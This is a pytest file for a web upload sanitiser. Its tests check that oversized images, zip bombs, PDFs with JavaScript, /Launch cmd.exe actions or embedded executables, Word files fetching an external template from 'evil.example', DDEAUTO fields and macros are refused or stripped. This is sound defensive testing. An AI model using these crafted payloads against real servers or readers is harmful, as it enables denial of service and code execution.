"""A stranger who uploads files that are made to harm: the web server, the disk, or the official who opens them.

What held before: a file is known by its content, a picture loses its EXIF, and whatever is uploaded is served as a
download only. What did not: four pictures of 7740×7740 (107 KB each) took 13 s and 1.6 GB each in a web worker, and the
site stood still for 98 s; nobody counted bytes or pixels, and nothing kept the disk from filling; PDF, Word and Excel
files went through with their author, their scripts and the templates that they fetch from outside.

What holds now: the header is judged first, and what is too large is refused without being decoded; decoding and all
reading of PDF and office files happens in a child process with limits of memory and time, without a key in its
environment; bytes and pixels are counted by sender and in all; the disk keeps a reserve. Documents lose their author
and what runs by itself; what cannot be taken out is said to the official beside the file. What remains: a hole in a
decoder gives the child's process, which runs as the same user of the system; fields of a document that name people who
changed or commented on it stay.
"""

from __future__ import annotations

import fcntl
import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, RequestFactory
from django.urls import reverse
from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from reportlab.pdfgen.canvas import Canvas

from tongban.cases import attachments
from tongban.cases.models import Attachment, Uploaded
from tongban.cases.refusal import Refusal
from tongban.cases.uploads import cleaner, kinds, pictures, quotas
from tongban.cases.uploads.refused import Refused
from tongban.gate.uploading import sender_of

pytestmark = pytest.mark.django_db
MOST = 24_000_000


@pytest.fixture(autouse=True)
def _own_folder(settings, tmp_path):
    settings.ATTACHMENT_ROOT = tmp_path
    yield
    cleaner.forget()


def kept(content: bytes, name: str = "文件", draft: str = "a draft") -> Attachment:
    return attachments.keep(name, content, draft)


def refused(content: bytes) -> str:
    with pytest.raises(Refusal) as no:
        kept(content)
    assert not Attachment.objects.exists()
    return str(no.value.message)


def saved(image: Image.Image, form: str, **more: object) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **more)
    return out.getvalue()


# --- pictures -------------------------------------------------------------------------------------------------------


def webp_of(width: int, height: int) -> bytes:
    """A WebP by its header, as small as can be."""
    canvas = b"\x00" * 4 + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    chunk = b"VP8X" + struct.pack("<I", 10) + canvas
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


def png_of(width: int, height: int) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + head
        + struct.pack(">I", zlib.crc32(head))
        + b"\x00\x00\x00\x00IDAT"
    )


def jpeg_of(width: int, height: int) -> bytes:
    sof = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof


HUGE = {
    "webp": webp_of(7740, 7740),
    "png": png_of(30_000, 30_000),
    "jpeg": jpeg_of(65_000, 65_000),
    "just over": webp_of(4900, 4900),
}


def test_four_huge_pictures_are_refused_by_their_header_and_nothing_is_decoded(registry, monkeypatch):
    def started() -> None:
        raise AssertionError("a child was started")

    monkeypatch.setattr(cleaner, "Child", started)
    monkeypatch.setattr(Image, "open", started)
    browser = Client()
    browser.post("/new/letter/", {"matter": "0101"})
    browser.post("/new/letter/where/", {"place": "610113"})
    files = [SimpleUploadedFile(f"{name}.webp", content) for name, content in HUGE.items()]
    answer = browser.post(
        "/new/letter/text/", {"subject": "有图", "body": "请看照片。", "visibility": "public", "files": files}
    )
    assert answer.status_code == 422
    assert answer.content.decode().count("图片太大，最多 24 百万像素") == len(HUGE)
    assert browser.get("/healthz").status_code == 200
    assert not Attachment.objects.exists()


@pytest.mark.parametrize("name", HUGE)
def test_the_child_judges_the_header_too_before_it_decodes(name, monkeypatch):
    monkeypatch.setattr("PIL.ImageFile.ImageFile.load", lambda self: pytest.fail("decoded"))
    with pytest.raises(Refused) as no:
        pictures.clean(HUGE[name], str(kinds.media_type(HUGE[name])), MOST)
    assert no.value.reason in ("too_large", "damaged")


def test_a_bomb_within_the_limit_of_pixels_is_stopped_by_the_limit_of_memory(settings):
    settings.UPLOAD_CHILD_MEMORY = 160 * 2**20
    bomb = saved(Image.new("RGBA", (4800, 4800)), "PNG")
    assert len(bomb) < 120_000
    assert "文件太复杂" in refused(bomb)
    assert kept(saved(Image.new("RGB", (8, 8)), "PNG")).media_type == "image/png", "the next picture finds a new child"


def test_and_by_the_limit_of_time(settings):
    settings.UPLOAD_CHILD_SECONDS = -1  # so much as the child has used by then
    assert "文件太复杂" in refused(
        saved(Image.effect_noise((3000, 3000), 90).convert("RGB"), "WEBP", method=0, quality=60)
    )


def test_the_child_has_no_secret_in_its_environment_and_stays_for_the_next_picture(monkeypatch):
    monkeypatch.setenv("TONGBAN_VAULT_KEYS", "not for children")
    kept(saved(Image.new("RGB", (8, 8)), "PNG"), draft="1")
    child = cleaner._kept[0]
    environment = Path(f"/proc/{child._process.pid}/environ").read_bytes()
    assert b"TONGBAN" not in environment
    assert b"not for children" not in environment
    kept(saved(Image.new("RGB", (9, 9)), "PNG"), draft="2")
    assert cleaner._kept == [child]
    child._process.kill()
    child._process.wait()
    assert kept(saved(Image.new("RGB", (7, 7)), "PNG"), draft="3").size, "whatever ended it, the next one is started"


def test_no_more_children_work_at_a_time_than_is_said_and_nobody_waits_long(settings, monkeypatch):
    monkeypatch.setattr(cleaner, "PATIENCE", 0.0)
    settings.UPLOAD_CHILDREN = 1
    with (Path(settings.DATA) / "cleaning-0.lock").open("w") as taken:
        fcntl.flock(taken, fcntl.LOCK_EX)
        assert "人较多" in refused(saved(Image.new("RGB", (8, 8)), "PNG"))
    kept(saved(Image.new("RGB", (8, 8)), "PNG"))


MODES = {
    "grey": ("L", "PNG"), "one bit": ("1", "PNG"), "grey with alpha": ("LA", "PNG"), "palette": ("P", "PNG"),
    "16 bits": ("I;16", "PNG"),
    "alpha": ("RGBA", "PNG"), "cmyk": ("CMYK", "JPEG"), "grey photo": ("L", "JPEG"), "photo": ("RGB", "JPEG"),
    "webp": ("RGBA", "WEBP"),
}  # fmt: skip


@pytest.mark.parametrize("name", MODES)
def test_pictures_of_every_kind_come_out_as_they_look(name):
    mode, form = MODES[name]
    if mode == "I;16":
        image = Image.new("I;16", (40, 30), 200 * 256)
    else:
        image = Image.new("RGBA", (40, 30), (200, 200, 200, 255)).convert("L" if mode == "1" else mode)
        image = image.point(lambda value: 255, "1") if mode == "1" else image
    clean = Image.open(io.BytesIO(attachments.content_of(kept(saved(image, form)))))
    assert (clean.size, clean.format) == ((40, 30), form)
    assert abs(clean.convert("L").getpixel((5, 5)) - (255 if mode == "1" else 200)) < 8


def test_a_palette_keeps_what_is_transparent():
    image = Image.new("P", (4, 4), 1)
    image.putpalette([0, 0, 0, 255, 0, 0])
    image.putpixel((0, 0), 0)
    clean = Image.open(io.BytesIO(attachments.content_of(kept(saved(image, "PNG", transparency=0)))))
    assert (clean.getpixel((0, 0))[3], clean.getpixel((1, 1))) == (0, (255, 0, 0, 255))


def test_a_turned_photo_comes_out_upright_and_says_nothing_of_its_maker():
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x8825] = 6, "Maker", {1: "N", 2: (34.0, 13.0, 0.0)}
    for form, more in (
        ("JPEG", {"comment": b"by Maker", "icc_profile": b"Maker"}),
        ("WEBP", {"xmp": b"Maker", "icc_profile": b"Maker"}),
        ("PNG", {"icc_profile": b"Maker"}),
    ):
        raw = saved(Image.new("RGB", (40, 30), "red"), form, exif=exif, **more)
        assert b"Maker" in raw or form == "PNG"
        content = attachments.content_of(kept(raw, draft=form))
        assert b"Maker" not in content
        clean = Image.open(io.BytesIO(content))
        assert (clean.size, dict(clean.getexif()), "icc_profile" in clean.info) == ((30, 40), {}, False)


@pytest.mark.parametrize(("form", "more"), [("WEBP", {}), ("PNG", {})])
def test_a_picture_that_moves_is_refused_in_words(form, more):
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    assert "动图" in refused(saved(frames[0], form, save_all=True, append_images=frames[1:], duration=100, **more))


def test_a_phones_photo_with_a_preview_in_it_is_one_picture():
    raw = saved(
        Image.new("RGB", (40, 30), "red"), "MPO", save_all=True, append_images=[Image.new("RGB", (20, 15), "blue")]
    )
    clean = Image.open(io.BytesIO(attachments.content_of(kept(raw))))
    assert (clean.size, getattr(clean, "n_frames", 1)) == ((40, 30), 1)


@pytest.mark.parametrize("form", ["PNG", "JPEG", "WEBP"])
def test_a_picture_that_breaks_off_is_refused_in_words(form):
    raw = saved(Image.effect_noise((90, 90), 60).convert("RGB"), form)
    assert "已损坏" in refused(raw[: len(raw) // 2])


@pytest.mark.parametrize("form", ["GIF", "BMP", "TIFF", "ICO", "TGA", "PPM"])
def test_other_formats_are_not_even_tried(form):
    assert "不能接收这种文件" in refused(saved(Image.new("RGB", (16, 16)), form))


HEADERS = {
    "a photo of a million segments": b"\xff\xd8" + b"\xff\xe1\x00\x02" * 1_000_000,
    "a photo of fill bytes": b"\xff\xd8" + b"\xff" * 4_000_000,
    "a file of very many parts": b"PK\x03\x04"
    + b"\0" * 26
    + b"PK\x01\x02" * 500_000
    + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 9, 9, 2_000_000, 30, 0),
}


@pytest.mark.parametrize("name", HEADERS)
def test_a_header_that_is_made_to_keep_a_worker_busy_is_read_in_few_pieces(name, monkeypatch):
    read = []
    monkeypatch.setattr(
        kinds._InSmallPieces,
        "read",
        lambda self, size=-1, _read=kinds._InSmallPieces.read: (read.append(size), _read(self, size))[1],
    )
    refused(HEADERS[name])
    assert 0 < len(read) <= 2 * 3_001, "judged for the count and for itself"


# --- how much -------------------------------------------------------------------------------------------------------


def asking(address: str, user: object = None) -> object:
    request = RequestFactory().post("/", REMOTE_ADDR=address)
    request.user = user or SimpleNamespace(is_authenticated=False)
    return request


NOON = datetime(2026, 7, 1, 12, tzinfo=UTC)


def test_bytes_and_pixels_are_counted_by_sender_in_the_database(settings, monkeypatch):
    monkeypatch.setattr(quotas.timezone, "now", lambda: NOON)
    settings.RATE_LIMITS = True
    settings.UPLOAD_ONE, settings.UPLOAD_ALL = (1000, 500), (10_000, 1_100)

    def sends(who: str, pixels: int) -> None:
        token = quotas.SENDER.set(lambda: who)
        try:
            quotas.spend(10, pixels)
        finally:
            quotas.SENDER.reset(token)

    sends("192.0.2.1", 400)
    with pytest.raises(Refusal, match="not_yet"):
        sends("192.0.2.1", 200)
    sends("192.0.2.2", 400)
    assert Uploaded.objects.count() == 3, "each by a hash, and all"
    assert not Uploaded.objects.filter(name__contains="192").exists()
    with pytest.raises(Refusal) as no:
        sends("192.0.2.3", 400)
    assert "人较多" in str(no.value.message)
    Uploaded.objects.update(since="2020-01-01T00:00:00Z")
    assert quotas.forget_old() == 4


def test_after_two_files_that_take_all_the_time_of_a_child_their_sender_has_to_wait(settings, monkeypatch):
    monkeypatch.setattr(quotas.timezone, "now", lambda: NOON)
    settings.RATE_LIMITS = True
    asked = []

    def clean(content: bytes, kind: str) -> None:
        asked.append(kind)
        raise cleaner.refusal("too_much")

    monkeypatch.setattr(cleaner, "clean", clean)
    token = quotas.SENDER.set(lambda: "192.0.2.1")
    try:
        said = [refused(b"text") for _number in range(4)]
    finally:
        quotas.SENDER.reset(token)
    assert ["文件太复杂" in words for words in said] == [True, True, False, False]
    assert len(asked) == 2
    assert "上传得太多" in said[2]


def test_a_sender_is_an_official_an_address_or_a_house_with_ipv6():
    assert sender_of(asking("192.0.2.1")) == "192.0.2.1"
    assert (
        sender_of(asking("2001:db8:0:1::1"))
        == sender_of(asking("2001:db8:0:1:ffff::2"))
        != sender_of(asking("2001:db8:0:2::1"))
    )
    assert sender_of(asking("::ffff:192.0.2.1")) == "192.0.2.1"
    assert sender_of(asking("192.0.2.1", SimpleNamespace(is_authenticated=True, pk=7))) == "official:7"


def test_the_views_that_take_files_count_them(settings, registry):
    settings.RATE_LIMITS = True
    settings.UPLOAD_ONE = (10, 10)
    browser = Client()
    browser.post("/new/letter/", {"matter": "0101"})
    browser.post("/new/letter/where/", {"place": "610113"})
    answer = browser.post(
        "/new/letter/text/",
        {"subject": "有图", "body": "请看。", "visibility": "public", "files": SimpleUploadedFile("a.txt", b"x" * 11)},
    )
    assert answer.status_code == 422
    assert "上传得太多" in answer.content.decode()


def test_the_disk_is_never_filled(settings, monkeypatch):
    monkeypatch.setattr(
        quotas.shutil, "disk_usage", lambda _folder: SimpleNamespace(free=settings.UPLOAD_FREE_RESERVE + 3)
    )
    assert "没有空间" in refused(b"text")
    kept(b"txt")
    settings.UPLOAD_DRAFTS_MAX_BYTES = 5
    with pytest.raises(Refusal, match="not_yet"):
        kept(b"abc", draft="another")


# --- documents ------------------------------------------------------------------------------------------------------


def pdf(**changes: object) -> bytes:
    """One page by an author, with what `changes` says."""
    page = io.BytesIO()
    canvas = Canvas(page)
    canvas.setAuthor("王小明")
    canvas.drawString(100, 700, "evidence")
    canvas.save()
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(page.getvalue()))
    writer.add_metadata({"/Author": "Wang Xiaoming"})
    if "script" in changes:
        script = writer._add_object(
            DictionaryObject(
                {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x')")}
            )
        )
        names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
        writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    if "file" in changes:
        writer.add_attachment("prog.exe", b"MZ program")
    if "launch" in changes:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        writer.root_object[NameObject("/OpenAction")] = action
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/A"): action.clone(writer),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    if "signed" in changes:
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/SigFlags"): NumberObject(3), NameObject("/Fields"): ArrayObject()}
        )
    if "password" in changes:
        writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_pdf_loses_its_author_and_what_runs_by_itself():
    raw = pdf(script=1, file=1, launch=1)
    for word in (b"/JavaScript", b"/Launch", b"/EmbeddedFiles", b"prog"):
        assert word in raw, word
    item = kept(raw)
    content = attachments.content_of(item)
    for word in (
        b"Wang",
        "王小明".encode(),
        b"app.alert",
        b"cmd",
        b"prog",
        b"MZ",
        b"/JavaScript",
        b"/Launch",
        b"/EmbeddedFiles",
    ):
        assert word not in content, word
    assert "evidence" in pypdf.PdfReader(io.BytesIO(content)).pages[0].extract_text()
    assert attachments.warning(item) == "系统已去除其中的自动执行的动作、嵌入的文件或对象、脚本。"


def test_of_a_plain_pdf_nothing_is_said():
    item = kept(pdf())
    assert attachments.warning(item) == ""
    assert b"Wang" not in attachments.content_of(item)


@pytest.mark.parametrize(("change", "words"), [("signed", "数字签名"), ("password", "已加密")])
def test_a_pdf_that_cannot_be_cleaned_stays_as_it_is_and_the_official_is_told(change, words):
    raw = pdf(script=1, **{change: 1})
    item = kept(raw)
    assert attachments.content_of(item) == raw
    assert words in attachments.warning(item)
    if change == "signed":
        assert "此文件含有脚本，请下载后谨慎打开" in attachments.warning(item)


def test_a_damaged_pdf_is_kept_and_the_official_is_told():
    assert "未能检查" in attachments.warning(kept(b"%PDF-1.7\nnothing of it"))


CONTENT = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOCUMENT = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:'
    "body><w:t>经过</w:t></w:body></w:document>"
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINKS = f"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{_OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>
<Relationship Id="rId2" Type="{_OFFICE}/hyperlink" Target="https://www.example.org/" TargetMode="External"/>
<Relationship Id="rId3" Type="{_OFFICE}/styles" Target="styles.xml"/>
</Relationships>"""
AUTHOR = (
    '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>王小明</dc:creator></cp:'
    "coreProperties>"
)


def docx(**parts: str | bytes) -> bytes:
    out = io.BytesIO()
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT,
        "word/document.xml": DOCUMENT,
        "word/_rels/document.xml.rels": LINKS,
        "docProps/core.xml": AUTHOR,
        "docProps/app.xml": "<Properties><Company>某某公司</Company></Properties>",
        "docProps/thumbnail.jpeg": b"\xff\xd8picture",
        **{
            name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): part
            for name, part in parts.items()
        },
    }
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in whole.items():
            archive.writestr(name, part)
    return out.getvalue()


def test_a_word_file_loses_its_author_and_the_template_it_fetches_and_keeps_its_words():
    item = kept(docx())
    archive = zipfile.ZipFile(io.BytesIO(attachments.content_of(item)))
    whole = b"".join(archive.read(name) for name in archive.namelist()).decode()
    assert "经过" in whole
    assert "https://www.example.org/" in whole, "an address that somebody clicks stays"
    for gone in ("王小明", "某某公司", "evil.example", "picture"):
        assert gone not in whole
    assert 'Id="rId1"' in whole, "what refers to it still finds it"
    assert attachments.warning(item) == "系统已去除其中的指向外部的模板或对象。"


def test_what_cannot_be_taken_out_of_a_word_file_is_said():
    item = kept(
        docx(
            word__embeddings__object1_bin=b"\xd0\xcf\x11\xe0",
            word__footnotes_xml="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>",
        )
    )
    assert "此文件含有调用其他程序的域、嵌入的文件或对象，请下载后谨慎打开" in attachments.warning(item)


def test_a_real_spreadsheet_opens_afterwards():
    import openpyxl

    book = openpyxl.Workbook()
    book.properties.creator = "王小明"
    book.active["A1"] = "金额"
    out = io.BytesIO()
    book.save(out)
    item = kept(out.getvalue())
    clean = openpyxl.load_workbook(io.BytesIO(attachments.content_of(item)))
    assert (clean.active["A1"].value, clean.properties.creator == "王小明", attachments.warning(item)) == (
        "金额",
        False,
        "",
    )


@pytest.mark.parametrize("part", ["word__vbaProject_bin", "word__VBAPROJECT_bin", "xl__macrosheets__sheet1_xml"])
def test_a_file_with_macros_is_not_taken(part):
    assert "不能接收这种文件" in refused(docx(**{part: b"x"}))


def test_zip_bombs_and_entities_are_refused_in_words():
    bomb = docx(word__media__a_bin=b"\0" * 201_000_000)
    assert len(bomb) < 300_000
    assert "文件太复杂" in refused(bomb)
    assert "已损坏" in refused(docx(word__styles_xml='<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'))


def test_the_official_reads_the_warning_beside_the_file_and_gets_a_download_alone(letter, official, signed_in):
    kept(pdf(script=1, signed=1), "证据.pdf", "sent with it")
    case, _receipt = letter(draft="sent with it")
    client = signed_in(official("610113-CG", "handler"))
    client.post(f"/desk/c/{case.code}/", {"purpose": "办理"})
    page = client.get(f"/desk/c/{case.code}/").content.decode()
    assert "此文件含有脚本，请下载后谨慎打开" in page
    answer = client.get(reverse("desk:file", args=[case.code, Attachment.objects.get().key]))
    assert answer["Content-Disposition"].startswith("attachment;")
    assert answer["Content-Security-Policy"].startswith("sandbox")
    assert answer["X-Content-Type-Options"] == "nosniff"
